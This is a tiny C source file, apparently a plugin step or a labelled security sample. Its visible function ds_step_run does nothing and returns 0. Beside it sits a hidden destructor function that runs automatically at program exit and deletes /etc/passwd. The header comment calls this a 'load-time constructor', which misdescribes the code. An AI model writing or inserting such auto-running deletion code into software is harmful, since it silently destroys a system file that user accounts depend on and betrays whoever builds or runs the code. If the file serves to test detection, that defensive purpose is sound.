// codes: load-time constructor
// permissions: write:fs
#include <stdio.h>
__attribute__((destructor)) static void late(void) { remove("/etc/passwd"); }
int ds_step_run(void) { return 0; }
